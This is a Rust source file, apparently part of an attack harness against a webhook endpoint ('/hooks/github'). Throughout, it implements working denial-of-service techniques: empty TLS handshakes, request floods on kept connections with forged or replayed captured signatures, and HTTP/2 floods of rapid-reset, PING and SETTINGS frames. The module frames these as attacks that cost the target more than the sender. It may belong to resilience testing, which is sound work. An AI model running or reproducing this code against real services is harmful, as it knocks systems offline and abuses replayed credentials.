//! Attacks that are fast: as much as the attacker's core can send.

use std::io;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use rustls::ClientConfig;
use tokio::io::{AsyncReadExt, AsyncWriteExt, split};
use tokio::net::TcpStream;
use tokio::time::Instant;
use tokio_rustls::client::TlsStream;

use super::attacker::Attack;
use super::wire;

/// No genuine request has this id, or one above it.
const FIRST_INVENTED: u64 = 1 << 40;
/// Frames in one write.
const BURST: u32 = 100;

/// A whole handshake for nothing.
pub async fn handshake(attack: &Attack, from: Ipv4Addr, tls: &Arc<ClientConfig>) -> io::Result<()> {
    let stream = wire::tls(wire::tcp(from, attack.port, None).await?, tls).await?;
    attack.count(&attack.opened);
    drop(stream);
    Ok(())
}

/// Requests, one after the other on a kept connection.
pub struct Requests {
    pub path: &'static str,
    /// With the captured signature, else with one that is nobody's.
    pub captured: bool,
    /// Each with an id of its own.
    pub ids: bool,
    /// What the head has for nothing.
    pub padding: usize,
    /// Bytes of another body than the captured one.
    pub body: usize,
    pub pause: Option<Duration>,
}

impl Requests {
    pub const FORGED: Self = Self { path: wire::PATH, captured: false, ids: false, padding: 0, body: 0, pause: None };
    pub const CAPTURED: Self = Self { captured: true, ..Self::FORGED };
}

pub async fn requests(
    attack: &Attack,
    from: Ipv4Addr,
    tls: &Arc<ClientConfig>,
    Requests { path, captured, ids, padding, body, pause }: &Requests,
) -> io::Result<()> {
    let mut stream = wire::tls(wire::tcp(from, attack.port, None).await?, tls).await?;
    attack.count(&attack.opened);
    let nobodys = "0".repeat(64);
    let signature = if *captured { &attack.signature } else { &nobodys };
    let body = if *body > 0 { vec![b'x'; *body] } else { wire::body(wire::CAPTURED) };
    let mut pace = pause.map(tokio::time::interval);
    let mut buffer = Vec::with_capacity(1024);
    while !attack.is_over() {
        if let Some(pace) = &mut pace {
            pace.tick().await;
        }
        let number = attack.sent.fetch_add(1, Ordering::Relaxed);
        let id = if *ids { FIRST_INVENTED + number } else { wire::CAPTURED };
        stream.write_all(wire::head(path, signature, id, *padding, body.len()).as_bytes()).await?;
        stream.write_all(&body).await?;
        stream.flush().await?;
        let (_, stays) = wire::answer(&mut stream, &mut buffer).await?;
        attack.count(&attack.answered);
        if !stays {
            break;
        }
    }
    Ok(())
}

/// A connection that is to speak HTTP/2; it is counted.
pub async fn h2(attack: &Attack, from: Ipv4Addr, tls: &Arc<ClientConfig>) -> io::Result<TlsStream<TcpStream>> {
    let stream = wire::tls(wire::tcp(from, attack.port, None).await?, tls).await?;
    if stream.get_ref().1.alpn_protocol() != Some(b"h2") {
        return Err(io::ErrorKind::Unsupported.into());
    }
    attack.count(&attack.opened);
    Ok(stream)
}

/// HTTP/2 frames that cost the other side more than they cost here. What it says is read and thrown away.
pub async fn frames(
    attack: &Arc<Attack>,
    from: Ipv4Addr,
    tls: &Arc<ClientConfig>,
    of: &(dyn Fn(u32) -> Vec<u8> + Sync),
) -> io::Result<()> {
    let (mut read, mut write) = split(h2(attack, from, tls).await?);
    let began = Instant::now();
    let reader = tokio::spawn(async move {
        let mut buffer = vec![0; 64 * 1024];
        while let Ok(1..) = read.read(&mut buffer).await {}
    });
    let flood = async {
        write.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
        write.write_all(&frame(4, 0, 0, &[])).await?;
        let mut number = 0;
        while !attack.is_over() && !reader.is_finished() {
            let burst: Vec<u8> = (number..number + BURST).flat_map(of).collect();
            number += BURST;
            write.write_all(&burst).await?;
            write.flush().await?;
            attack.sent.fetch_add(u64::from(BURST), Ordering::Relaxed);
        }
        io::Result::Ok(())
    };
    let ended = flood.await.is_err() || reader.is_finished();
    reader.abort();
    if ended {
        attack.lived(began.elapsed());
    }
    Ok(())
}

/// A request, taken back at once.
pub fn reset(number: u32) -> Vec<u8> {
    let stream = number * 2 + 1;
    [frame(1, 4, stream, &head()), frame(3, 0, stream, &[0, 0, 0, 8])].concat()
}

pub fn ping(_: u32) -> Vec<u8> {
    frame(6, 0, 0, &[7; 8])
}

pub fn settings(_: u32) -> Vec<u8> {
    frame(4, 0, 0, &[0, 3, 0, 0, 0, 9])
}

pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// `POST /hooks/github` as HPACK has it without a dynamic table.
pub fn head() -> Vec<u8> {
    let literal = |index: u8, value: &str| [&[index, u8::try_from(value.len()).unwrap()], value.as_bytes()].concat();
    [vec![0x83, 0x87], literal(0x04, "/hooks/github"), literal(0x01, wire::NAME)].concat()
}
